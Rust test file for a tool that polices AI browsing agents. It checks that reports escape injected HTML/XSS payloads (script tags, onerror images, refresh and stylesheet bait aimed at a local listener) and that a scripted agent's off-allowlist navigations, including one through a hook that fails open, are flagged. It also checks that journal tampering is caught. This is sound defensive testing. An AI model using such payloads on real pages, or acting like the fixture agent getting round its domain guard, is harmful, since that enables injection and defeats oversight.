//! What a run leaves for people and CI (issue #14 items 2-4): `report.html`, rendered by a real
//! headless Chromium and read back as text; `persona report`; `persona runs`; `--junit`.
//!
//! Whole runs use the fake worker (`leopold-fake-worker`) through the lifecycle kit; the report's
//! attacker-chosen text (a label, the findings) comes through the real Claude stream adapter.

#![allow(clippy::print_stderr)] // the SKIPPED line

use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use crate::kit::*;

const PWNED_LABEL: &str = "<script>document.title='pwned'</script>Add to cart";
/// A label holding a URL, as a page may name a link.
const URL_LABEL: &str = "Go to https://u:pw@staging.example.com/deals?token=secret now";
const FINDINGS: &str = "# Findings\n\nThe <b>cart</b> page & its \"Checkout\" button <img src=x onerror=alert(1)> confused me.\nSee https://staging.example.com/cart?token=secret.\n";
/// The findings as a report shows them: the URL reduced to its host.
const FINDINGS_SHOWN: &str = "# Findings\n\nThe <b>cart</b> page & its \"Checkout\" button <img src=x onerror=alert(1)> confused me.\nSee <staging.example.com>";

/// Chromium for rendering, or `None` (the test then says SKIPPED) outside CI. In CI a missing
/// browser fails: these tests never skip there.
fn chromium() -> Option<PathBuf> {
    let p = std::env::var_os("LEOPOLD_CHROMIUM")
        .map(PathBuf::from)
        .unwrap_or_else(|| PathBuf::from("/usr/bin/chromium"));
    if p.exists() {
        return Some(p);
    }
    assert!(
        std::env::var_os("CI").is_none(),
        "{} is missing and CI is set: install it with ./scripts/install-browser.sh",
        p.display()
    );
    eprintln!(
        "*** SKIPPED: no Chromium at {} (set LEOPOLD_CHROMIUM)",
        p.display()
    );
    None
}

/// The DOM Chromium built from the page, after any script would have run.
fn render_dom(chromium: &Path, page: &Path) -> String {
    let dom = chromium_dump(chromium, page);
    assert!(
        dom.contains("</html>"),
        "no DOM from chromium for {}: {dom}",
        page.display()
    );
    dom
}

/// Chromium's `--dump-dom` of a page, whatever it is (empty when the page navigated away).
fn chromium_dump(chromium: &Path, page: &Path) -> String {
    let profile = tempfile::tempdir().unwrap();
    let out = Command::new(chromium)
        .args([
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--no-first-run",
            "--disable-background-networking",
        ])
        .arg(format!("--user-data-dir={}", profile.path().display()))
        .arg("--dump-dom")
        .arg(format!("file://{}", page.display()))
        .stdin(Stdio::null())
        .output()
        .expect("run chromium");
    assert!(
        out.status.success(),
        "chromium failed: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8(out.stdout).unwrap()
}

/// The text a reader sees: tags dropped, entities decoded.
fn text_of(dom: &str) -> String {
    let mut out = String::new();
    let mut in_tag = false;
    for c in dom.chars() {
        match (c, in_tag) {
            ('<', false) => in_tag = true,
            ('>', true) => {
                in_tag = false;
                out.push(' ');
            }
            (c, false) => out.push(c),
            _ => {}
        }
    }
    let out = out
        .replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&quot;", "\"")
        .replace("&#39;", "'")
        .replace("&amp;", "&");
    out.split_whitespace().collect::<Vec<_>>().join(" ")
}

/// Element names of a page or XML document (`<script`, `<img`, ...), lowercase.
fn elements(doc: &str, name: &str) -> usize {
    doc.to_ascii_lowercase()
        .matches(&format!("<{name}"))
        .count()
}

fn claude_result(id: &str, text: &str, is_error: bool) -> String {
    serde_json::json!({"type":"user","message":{"role":"user","content":[{"type":"tool_result","tool_use_id":id,"is_error":is_error,"content":[{"type":"text","text":text}]}]}}).to_string()
}

/// A 2×2 red PNG.
fn png() -> Vec<u8> {
    fn chunk(out: &mut Vec<u8>, kind: &[u8], data: &[u8]) {
        out.extend_from_slice(&(data.len() as u32).to_be_bytes());
        let mut c = kind.to_vec();
        c.extend_from_slice(data);
        out.extend_from_slice(&c);
        out.extend_from_slice(&crc32(&c).to_be_bytes());
    }
    fn crc32(b: &[u8]) -> u32 {
        let mut c = !0u32;
        for &x in b {
            c ^= u32::from(x);
            for _ in 0..8 {
                c = if c & 1 == 1 {
                    0xEDB8_8320 ^ (c >> 1)
                } else {
                    c >> 1
                };
            }
        }
        !c
    }
    fn adler(b: &[u8]) -> u32 {
        let (mut a, mut s) = (1u32, 0u32);
        for &x in b {
            a = (a + u32::from(x)) % 65521;
            s = (s + a) % 65521;
        }
        (s << 16) | a
    }
    let raw: Vec<u8> = (0..2).flat_map(|_| [0u8, 255, 0, 0, 255, 0, 0]).collect();
    // zlib, one stored block.
    let mut z = vec![0x78, 0x01, 1];
    z.extend_from_slice(&(raw.len() as u16).to_le_bytes());
    z.extend_from_slice(&(!(raw.len() as u16)).to_le_bytes());
    z.extend_from_slice(&raw);
    z.extend_from_slice(&adler(&raw).to_be_bytes());
    let mut out = b"\x89PNG\r\n\x1a\n".to_vec();
    let mut ihdr = Vec::new();
    ihdr.extend_from_slice(&2u32.to_be_bytes());
    ihdr.extend_from_slice(&2u32.to_be_bytes());
    ihdr.extend_from_slice(&[8, 2, 0, 0, 0]);
    chunk(&mut out, b"IHDR", &ihdr);
    chunk(&mut out, b"IDAT", &z);
    chunk(&mut out, b"IEND", &[]);
    out
}

/// A Claude run that takes a screenshot, clicks a button whose label is a script, is denied
/// once, then (after the test has put `findings.md` and the screenshot in place) navigates off
/// the allowlist with the hook failing open: a violation.
fn violating_script() -> String {
    let shot = "### Result\n- [Screenshot of viewport](../../elsewhere/page-shot.png)\n### Page\n- Page URL: https://staging.example.com/cart?token=secret\n- Page Title: <script>alert(2)</script>";
    let denied = "PreToolUse:mcp__personastub__navigate hook error: [leopold]: Leopold persona guard: navigation to host \"evil.example\" is outside the domain allowlist of flow \"checkout\" (reason: outside_allowlist)";
    [
        claude_tool_use(
            "t1",
            "mcp__personastub__browser_take_screenshot",
            serde_json::json!({}),
        ),
        claude_result("t1", shot, false),
        claude_tool_use(
            "t2",
            "mcp__personastub__click",
            serde_json::json!({"element": PWNED_LABEL, "ref": "e3"}),
        ),
        claude_tool_ok("t2"),
        claude_tool_use(
            "t5",
            "mcp__personastub__click",
            serde_json::json!({"label": URL_LABEL}),
        ),
        claude_tool_ok("t5"),
        claude_navigate("t3", "https://evil.example/?token=secret"),
        claude_result("t3", denied, true),
        "@sleep 2500".into(),
        claude_navigate(
            "t4",
            "https://prod-dashboard.example.org/admin?token=secret",
        ),
        claude_tool_ok("t4"),
        "@sleep 60000".into(),
    ]
    .join("\n")
        + "\n"
}

#[test]
fn a_violating_run_writes_a_report_chromium_renders_and_a_junit_failure() {
    let sb = Sandbox::scripted(&violating_script());
    // A folder that does not exist yet, as a CI job names it.
    let junit = sb.root.join("out/reports/junit.xml");
    let junit_arg = junit.display().to_string();
    let child = sb
        .run_cmd("claude", &["--junit", &junit_arg])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    // While the worker sleeps: what a later change writes (the persona's findings) and what
    // Playwright writes (the screenshot file), in the run directory.
    wait_for(10, "the worker to start", || sb.record().exists());
    let dir = sb.run_dir();
    std::fs::write(dir.join("findings.md"), FINDINGS).unwrap();
    std::fs::create_dir_all(dir.join("browser/output")).unwrap();
    std::fs::write(dir.join("browser/output/page-shot.png"), png()).unwrap();
    let out = wait_output(child, 30);
    assert_exit_code(&out, 1);
    assert!(
        stdout(&out).contains("report.html"),
        "the run names its report: {}",
        stdout(&out)
    );

    // The page itself: no URL, no token, no script element, the screenshot embedded.
    let page = dir.join("report.html");
    let html = std::fs::read_to_string(&page).unwrap();
    assert!(!html.contains("://"), "a URL in the report: {html}");
    assert!(!html.contains("secret"), "a token in the report");
    assert_eq!(elements(&html, "script"), 0, "{html}");
    assert_eq!(elements(&html, "img"), 1, "only the screenshot is an image");
    assert!(html.contains("src=\"data:image/png;base64,"), "embedded");

    // What a reader sees, from a real browser.
    let Some(chromium) = chromium() else { return };
    let dom = render_dom(&chromium, &page);
    assert_eq!(elements(&dom, "script"), 0, "a script element in the DOM");
    assert_eq!(elements(&dom, "img"), 1, "an injected image in the DOM");
    assert!(!dom.contains("pwned\""), "{dom}");
    let text = text_of(&dom);
    for want in [
        "violated exit 1",
        "Flow checkout",
        "Harness claude",
        "staging.example.com accounts.example.com",
        "built-in set payment",
        "click label (?i)place order",
        "path /checkout/confirm",
        PWNED_LABEL,
        "The <b>cart</b> page & its \"Checkout\" button <img src=x onerror=alert(1)> confused me. See <staging.example.com>",
        "blocked",
        "evil.example",
        "hook_failed_open",
        "prod-dashboard.example.org",
        // Kept from the browser's output folder when the run ended.
        "screenshots/page-shot.png",
        "5 actions",
        "Go to <staging.example.com> now",
    ] {
        assert!(
            text.contains(want),
            "missing {want:?} in the rendered text:\n{text}"
        );
    }
    assert!(!text.contains("pwned Leopold"), "the title was not changed");

    // JUnit: well-formed, one suite, one case, a failure with the reason, findings in system-out.
    let xml = std::fs::read_to_string(&junit).unwrap();
    let doc = parse_xml(&xml);
    assert_eq!(doc.count("testsuite"), 1, "{xml}");
    assert_eq!(doc.count("testcase"), 1, "{xml}");
    let case = doc.first("testcase");
    assert_eq!(case.attr("name"), "checkout");
    assert_eq!(case.attr("classname"), "leopold.persona.claude");
    let failure = doc.first("failure");
    assert_eq!(failure.attr("type"), "violated");
    assert!(
        failure.attr("message").contains("hook_failed_open"),
        "{xml}"
    );
    assert!(failure.text.contains("prod-dashboard.example.org"), "{xml}");
    assert!(failure.text.contains("#4 blocked"), "{xml}");
    let sysout = doc.first("system-out");
    assert!(sysout.text.contains(FINDINGS_SHOWN), "{xml}");
    // Claude's denial carries no reason in today's journal (issue #14 item 5); the wall is listed.
    assert!(
        sysout.text.contains("#4 blocked") && sysout.text.contains("[evil.example]"),
        "{xml}"
    );
    assert!(!xml.contains("secret") && !xml.contains("://"), "{xml}");
}

#[test]
fn a_clean_run_is_a_passing_junit_case_and_its_report_says_clean() {
    let sb = Sandbox::scripted(&format!(
        "{}\n{}\n",
        claude_navigate("t1", "https://staging.example.com/welcome"),
        claude_tool_ok("t1")
    ));
    let junit = sb.root.join("junit.xml");
    let junit_arg = junit.display().to_string();
    let out = sb
        .run_cmd("codex", &["--junit", &junit_arg])
        .output()
        .unwrap();
    // Codex's adapter ignores Claude lines: a clean run with no action. The point is the shape.
    assert_exit_code(&out, 0);
    let xml = std::fs::read_to_string(&junit).unwrap();
    let doc = parse_xml(&xml);
    assert_eq!(doc.count("testcase"), 1);
    assert_eq!(doc.count("failure") + doc.count("error"), 0, "{xml}");
    assert_eq!(doc.first("testsuites").attr("failures"), "0");
    assert_eq!(
        doc.first("testcase").attr("classname"),
        "leopold.persona.codex"
    );
    assert!(
        doc.first("system-out").text.contains("no findings.md"),
        "{xml}"
    );
    let html = std::fs::read_to_string(sb.run_dir().join("report.html")).unwrap();
    assert_has(&html, "class=\"outcome clean\"");
}

/// `persona report` checks the hash chains before it renders a run as clean: a real run's
/// journal with one line edited after the run, or its gateway record cut short, is rendered
/// `tampered` (not clean) with the break named, its JUnit case fails, and the command exits 1.
/// The same run untouched renders clean (the control), and so again once restored.
#[test]
fn persona_report_renders_a_run_whose_records_were_changed_as_tampered() {
    let sb = Sandbox::with_user_files();
    let browser = sb.stub_browser("browser");
    let cfg = sb.write_claude_mcp_config(&browser);
    sb.set_script(&format!(
        "@mcp browser navigate {}\n@mcp browser navigate {}\n@exit 0\n",
        serde_json::json!({"url": "https://staging.example.com/cart"}),
        serde_json::json!({"url": "https://staging.example.com/help"}),
    ));
    let out = sb
        .run_cmd("codex", &["--mcp-config", &cfg.display().to_string()])
        .output()
        .unwrap();
    assert_exit_code(&out, 0);
    let dir = sb.run_dir();
    let junit = sb.root.join("junit.xml");
    let report = |dir: &Path| persona_report(&sb, dir, "--junit", &junit);
    let verdict = || {
        let html = std::fs::read_to_string(dir.join("report.html")).unwrap();
        let doc = parse_xml(&std::fs::read_to_string(&junit).unwrap());
        let failure = (doc.count("failure") == 1).then(|| {
            let f = doc.first("failure");
            (f.attr("type").to_owned(), f.attr("message").to_owned())
        });
        (html, failure)
    };
    let o = report(&dir);
    assert_exit_code(&o, 0);
    let (html, failure) = verdict();
    assert_has(&html, "class=\"outcome clean\"");
    assert_eq!(failure, None);

    // One journal line edited (the first navigation's path), as someone hiding it would.
    let journal = dir.join("journal.jsonl");
    let original = std::fs::read_to_string(&journal).unwrap();
    assert_eq!(original.lines().count(), 3, "{original}");
    std::fs::write(&journal, original.replacen("\"/cart\"", "\"/home\"", 1)).unwrap();
    let o = report(&dir);
    assert_exit_code(&o, 1);
    assert_has(&stderr(&o), "leopold: tampered: journal.jsonl line 3");
    let (html, failure) = verdict();
    assert!(!html.contains("class=\"outcome clean\""), "{html}");
    assert_has(&html, "class=\"outcome violated\">tampered<");
    assert_has(&html, "journal.jsonl line 3");
    let (kind, message) = failure.expect("a failing JUnit case");
    assert_eq!(kind, "tampered");
    assert!(message.starts_with("journal.jsonl line 3: "), "{message}");

    // The journal restored: clean again. The gateway record's last line cut instead: its chain
    // holds, its head is not the one run.json recorded.
    std::fs::write(&journal, &original).unwrap();
    assert_exit_code(&report(&dir), 0);
    let record = dir.join("gateway.jsonl");
    let text = std::fs::read_to_string(&record).unwrap();
    let cut: Vec<&str> = text.lines().collect();
    assert!(cut.len() >= 2, "{text}");
    std::fs::write(&record, format!("{}\n", cut[..cut.len() - 1].join("\n"))).unwrap();
    let o = report(&dir);
    assert_exit_code(&o, 1);
    let (html, failure) = verdict();
    assert_has(&html, "class=\"outcome violated\">tampered<");
    let (kind, message) = failure.expect("a failing JUnit case");
    assert_eq!(kind, "tampered");
    assert!(
        message.starts_with("gateway.jsonl does not end on the head run.json recorded"),
        "{message}"
    );
}

// ---- persona report and persona runs, on run directories written by hand ----

const RUN_JSON: &str = r#"{"version":1,"active":false,"run_id":"RUNID","flow":"checkout","flow_path":"FLOW","harness":"codex","supervisor_pid":1,"worker_pid":2,"started_at":"STARTED","wiring":[],"journal_hash":"sha256:0f1e2d","end":{"outcome":"OUTCOME","exit_code":CODE,"ended_at":"ENDED","counts":{"actions":2,"completed":1,"errored":0,"denied":1,"violations":0,"unreadable_lines":0},"worker_status":"exit 0"}}"#;

/// `leopold persona report DIR FLAG FILE`.
fn persona_report(sb: &Sandbox, dir: &Path, flag: &str, file: &Path) -> std::process::Output {
    sb.leopold(&[
        "persona",
        "report",
        &dir.display().to_string(),
        flag,
        &file.display().to_string(),
    ])
    .output()
    .unwrap()
}

/// A run with no end time (`x`), whose run.json the test then takes away or spoils:
/// [`write_run`].
fn unended_run(project: &Path, id: &str, started: &str) -> PathBuf {
    write_run(project, id, started, "x", "clean", 0)
}

/// A clean run, `20261130T100000Z-1`, started at 10:00 and ended at `ended`: [`write_run`].
fn clean_run(project: &Path, ended: &str) -> PathBuf {
    write_run(
        project,
        "20261130T100000Z-1",
        "2026-11-30T10:00:00.000Z",
        ended,
        "clean",
        0,
    )
}

fn write_run(
    project: &Path,
    id: &str,
    started: &str,
    ended: &str,
    outcome: &str,
    code: u8,
) -> PathBuf {
    let dir = project.join(".leopold/persona/runs").join(id);
    std::fs::create_dir_all(&dir).unwrap();
    let flow = project.join("checkout.md");
    if !flow.exists() {
        std::fs::write(&flow, FLOW).unwrap();
    }
    let rj = RUN_JSON
        .replace("RUNID", id)
        .replace("FLOW", &flow.display().to_string())
        .replace("STARTED", started)
        .replace("ENDED", ended)
        .replace("OUTCOME", outcome)
        .replace("CODE", &code.to_string());
    std::fs::write(dir.join("run.json"), rj).unwrap();
    let header = format!(
        r#"{{"leopold_journal":1,"run_id":"{id}","flow":"checkout","flow_path":"checkout.md","harness":"codex","started_at":"{started}"}}"#
    );
    let a1 = r#"{"seq":1,"ts":"2026-11-30T10:00:01.000Z","harness":"codex","tool":"mcp__browser__browser_navigate","kind":"navigate","urls":[{"role":"target","scheme":"https","host":"staging.example.com","path":"/"}],"outcome":"completed","verdict":{"result":"ok"}}"#;
    let a2 = r#"{"seq":2,"ts":"2026-11-30T10:00:02.000Z","harness":"codex","tool":"mcp__browser__browser_navigate","kind":"navigate","urls":[{"role":"target","scheme":"https","host":"evil.example","path":"/"}],"outcome":"denied","denied_reason":"outside_allowlist","verdict":{"result":"ok"}}"#;
    std::fs::write(
        dir.join("journal.jsonl"),
        format!("{header}\n{a1}\n{a2}\n{{\"seq\":3,"),
    )
    .unwrap();
    dir
}

fn listing(dir: &Path) -> Vec<(PathBuf, Vec<u8>)> {
    let mut v: Vec<(PathBuf, Vec<u8>)> = std::fs::read_dir(dir)
        .unwrap()
        .flatten()
        .filter(|e| e.path().is_file())
        .map(|e| (e.path(), std::fs::read(e.path()).unwrap()))
        .collect();
    v.sort();
    v
}

#[test]
fn persona_report_renders_from_the_run_directory_alone_and_out_leaves_it_untouched() {
    let sb = Sandbox::with_user_files();
    let dir = clean_run(&sb.project, "2026-11-30T10:01:05.000Z");
    let before = listing(&dir);
    let out_file = sb.root.join("elsewhere/r.html");
    std::fs::create_dir_all(out_file.parent().unwrap()).unwrap();
    let o = persona_report(&sb, &dir, "--out", &out_file);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    assert_eq!(stdout(&o).trim(), out_file.display().to_string());
    assert_eq!(
        listing(&dir),
        before,
        "--out writes nothing into the run directory"
    );
    let html = std::fs::read_to_string(&out_file).unwrap();
    for want in [
        "sha256:0f1e2d",
        "outside_allowlist",
        "evil.example",
        "1m 5s",
        "torn last line",
    ] {
        assert!(html.contains(want), "missing {want}: {html}");
    }

    // Without --out: into the run directory.
    let o = sb
        .leopold(&["persona", "report", &dir.display().to_string()])
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    assert_eq!(
        std::fs::read_to_string(dir.join("report.html")).unwrap(),
        html,
        "the same run renders the same page"
    );
}

#[test]
fn persona_report_refuses_a_malformed_run_json_naming_it_and_leaves_it_as_is() {
    let sb = Sandbox::with_user_files();
    let dir = clean_run(&sb.project, "2026-11-30T10:01:00.000Z");
    std::fs::write(dir.join("run.json"), "{\"version\": 1,").unwrap();
    let before = listing(&dir);
    let o = sb
        .leopold(&["persona", "report", &dir.display().to_string()])
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(2));
    let err = stderr(&o);
    assert!(
        err.contains(&dir.join("run.json").display().to_string()),
        "{err}"
    );
    assert_has(&err, "left as it is");
    assert_eq!(listing(&dir), before, "nothing written, nothing changed");

    // Not a run directory at all.
    let o = sb
        .leopold(&["persona", "report", &sb.project.display().to_string()])
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(2));
    assert_has(&stderr(&o), "not a run directory");
}

#[test]
fn persona_runs_lists_newest_first_with_unfinished_and_unreadable_runs() {
    let sb = Sandbox::with_user_files();
    let p = sb.project.clone();
    write_run(
        &p,
        "20261130T090000Z-1",
        "2026-11-30T09:00:00.000Z",
        "2026-11-30T09:00:30.000Z",
        "clean",
        0,
    );
    write_run(
        &p,
        "20261130T110000Z-3",
        "2026-11-30T11:00:00.000Z",
        "2026-11-30T11:02:00.000Z",
        "violated",
        1,
    );
    // Crashed: a journal, no run.json.
    let crashed = unended_run(&p, "20261130T100000Z-2", "2026-11-30T10:00:00.000Z");
    std::fs::remove_file(crashed.join("run.json")).unwrap();
    // Active: ACTIVE.json names it and its own lock is held (its run.json is written only when
    // it ends).
    let live = unended_run(&p, "20261130T120000Z-4", "2026-11-30T12:00:00.000Z");
    let mut active: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(live.join("run.json")).unwrap()).unwrap();
    active["active"] = true.into();
    active.as_object_mut().unwrap().remove("end");
    active.as_object_mut().unwrap().remove("journal_hash");
    std::fs::write(p.join(".leopold/persona/ACTIVE.json"), active.to_string()).unwrap();
    std::fs::remove_file(live.join("run.json")).unwrap();
    let own = p.join(".leopold/persona/active/20261130T120000Z-4.lock");
    std::fs::create_dir_all(own.parent().unwrap()).unwrap();
    let held = std::fs::File::create(&own).unwrap();
    fs2::FileExt::lock_exclusive(&held).unwrap();
    // Unreadable run.json.
    let bad = unended_run(&p, "20261130T080000Z-0", "2026-11-30T08:00:00.000Z");
    std::fs::write(bad.join("run.json"), "[]").unwrap();

    let project = p.display().to_string();
    let o = sb
        .leopold(&["persona", "runs", "--project", &project, "--json"])
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let v: serde_json::Value = serde_json::from_str(&stdout(&o)).unwrap();
    let runs = v["runs"].as_array().unwrap();
    let ids: Vec<&str> = runs
        .iter()
        .map(|r| r["run_id"].as_str().unwrap_or(""))
        .collect();
    assert_eq!(
        ids,
        [
            "20261130T120000Z-4",
            "20261130T110000Z-3",
            "20261130T100000Z-2",
            "20261130T090000Z-1",
            ""
        ]
    );
    assert_eq!(runs[0]["outcome"], "active");
    assert_eq!(runs[1]["outcome"], "violated");
    assert_eq!(runs[1]["exit_code"], 1);
    assert_eq!(runs[1]["duration_ms"], 120_000);
    assert_eq!(runs[1]["counts"]["denied"], 1);
    assert_eq!(runs[1]["harness"], "codex");
    assert_eq!(runs[2]["outcome"], "unfinished");
    assert_eq!(runs[4]["outcome"], "unreadable");
    assert!(runs[4]["error"].as_str().unwrap().contains("run.json"));
    assert!(Path::new(runs[1]["run_dir"].as_str().unwrap()).is_absolute());

    let o = sb
        .leopold(&["persona", "runs", "--project", &project])
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let text = stdout(&o);
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(lines.len(), 6, "{text}");
    assert!(lines[0].starts_with("RUN "), "{text}");
    assert!(lines[1].contains("active"), "{text}");
    assert!(
        lines[2].contains("violated (1)") && lines[2].contains("2m"),
        "{text}"
    );
    assert!(lines[3].contains("unfinished"), "{text}");
    assert!(lines[5].contains("unreadable"), "{text}");
    // Its lock free, the same run is a crashed one: unfinished.
    drop(held);
    let o = sb
        .leopold(&["persona", "runs", "--project", &project, "--json"])
        .output()
        .unwrap();
    let again: serde_json::Value = serde_json::from_str(&stdout(&o)).unwrap();
    assert_eq!(again["runs"][0]["outcome"], "unfinished", "{again}");

    // No runs at all.
    let empty = tempfile::tempdir().unwrap();
    let o = sb
        .leopold(&[
            "persona",
            "runs",
            "--project",
            &empty.path().display().to_string(),
        ])
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(0));
    assert!(stdout(&o).starts_with("no persona runs"), "{}", stdout(&o));
}

/// A listener on 127.0.0.1 that counts every connection made to it: the witness that the page
/// asked for nothing.
fn witness() -> (u16, std::sync::Arc<std::sync::atomic::AtomicUsize>) {
    use std::io::{Read as _, Write as _};
    let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = l.local_addr().unwrap().port();
    let hits = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let h = hits.clone();
    std::thread::spawn(move || {
        for c in l.incoming().flatten() {
            h.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
            let mut c = c;
            let mut buf = [0u8; 1024];
            let _ = c.read(&mut buf);
            let _ = c.write_all(b"HTTP/1.0 404 Not Found\r\nContent-Length: 0\r\n\r\n");
        }
    });
    (port, hits)
}

#[test]
fn a_report_makes_no_request_whatever_its_text_asks_for() {
    let Some(chromium) = chromium() else { return };
    let (port, hits) = witness();
    let sb = Sandbox::with_user_files();
    let dir = clean_run(&sb.project, "2026-11-30T10:01:00.000Z");
    // `http:\\host` is `http://host` to a browser, and holds no `://` for the URL stripping to
    // catch: only escaping (and the page's Content-Security-Policy behind it) stands between
    // this text and a request.
    let bait = format!(
        "<img src=\"http:\\\\127.0.0.1:{port}/img\"><link rel=stylesheet href=\"http:\\\\127.0.0.1:{port}/css\"><meta http-equiv=refresh content=\"0;url=http:\\\\127.0.0.1:{port}/go\">"
    );
    std::fs::write(dir.join("findings.md"), &bait).unwrap();
    let journal = std::fs::read_to_string(dir.join("journal.jsonl")).unwrap();
    let label = serde_json::to_string(&bait).unwrap();
    std::fs::write(
        dir.join("journal.jsonl"),
        journal.replacen(
            r#""outcome":"completed""#,
            &format!(r#""label":{label},"outcome":"completed""#),
            1,
        ),
    )
    .unwrap();
    let o = sb
        .leopold(&["persona", "report", &dir.display().to_string()])
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let dom = render_dom(&chromium, &dir.join("report.html"));
    assert!(
        text_of(&dom).contains(&bait),
        "the bait is shown as text: {dom}"
    );
    assert_eq!(
        hits.load(std::sync::atomic::Ordering::SeqCst),
        0,
        "the report made a request"
    );

    // Control: the same bait in a plain page does reach the witness, so silence above means
    // something.
    let control = sb.root.join("control.html");
    std::fs::write(&control, format!("<!DOCTYPE html><p>{bait}</p>")).unwrap();
    // Its refresh may navigate away before the DOM is dumped: only the listener is asked.
    chromium_dump(&chromium, &control);
    assert!(
        hits.load(std::sync::atomic::Ordering::SeqCst) > 0,
        "the witness saw nothing from the control page"
    );
}

// ---- a small XML reader over quick-xml, so the JUnit file is checked as XML, not as text ----

struct El {
    name: String,
    attrs: Vec<(String, String)>,
    text: String,
}

impl El {
    fn attr(&self, k: &str) -> &str {
        self.attrs
            .iter()
            .find(|(n, _)| n == k)
            .map_or("", |(_, v)| v.as_str())
    }
}

struct Doc(Vec<El>);

impl Doc {
    fn count(&self, name: &str) -> usize {
        self.0.iter().filter(|e| e.name == name).count()
    }
    fn first(&self, name: &str) -> &El {
        self.0
            .iter()
            .find(|e| e.name == name)
            .unwrap_or_else(|| panic!("no <{name}>"))
    }
}

fn element(s: &quick_xml::events::BytesStart<'_>) -> El {
    let name = s.name().as_ref().to_owned();
    let attrs = s
        .attributes()
        .map(|a| {
            let a = a.unwrap();
            (
                a.key.as_ref().to_owned(),
                a.normalized_value(quick_xml::XmlVersion::Implicit1_0)
                    .unwrap()
                    .into_owned(),
            )
        })
        .collect();
    El {
        name,
        attrs,
        text: String::new(),
    }
}

fn parse_xml(xml: &str) -> Doc {
    use quick_xml::events::Event;
    let mut r = quick_xml::Reader::from_str(xml);
    let mut els: Vec<El> = Vec::new();
    let mut open: Vec<usize> = Vec::new();
    loop {
        match r
            .read_event()
            .unwrap_or_else(|e| panic!("not well-formed XML: {e}\n{xml}"))
        {
            Event::Start(s) => {
                els.push(element(&s));
                open.push(els.len() - 1);
            }
            Event::Empty(s) => els.push(element(&s)),
            Event::End(_) => {
                open.pop();
            }
            Event::Text(t) => {
                if let Some(&i) = open.last() {
                    els[i].text.push_str(&t.xml10_content());
                }
            }
            Event::GeneralRef(e) => {
                let name = e.xml10_content();
                let c = match name.as_ref() {
                    "lt" => '<',
                    "gt" => '>',
                    "amp" => '&',
                    "quot" => '"',
                    "apos" => '\'',
                    n => n
                        .strip_prefix("#x")
                        .and_then(|h| u32::from_str_radix(h, 16).ok())
                        .or_else(|| n.strip_prefix('#').and_then(|d| d.parse().ok()))
                        .and_then(char::from_u32)
                        .unwrap_or_else(|| panic!("unknown entity &{n};")),
                };
                if let Some(&i) = open.last() {
                    els[i].text.push(c);
                }
            }
            Event::Eof => break,
            _ => {}
        }
    }
    Doc(els)
}
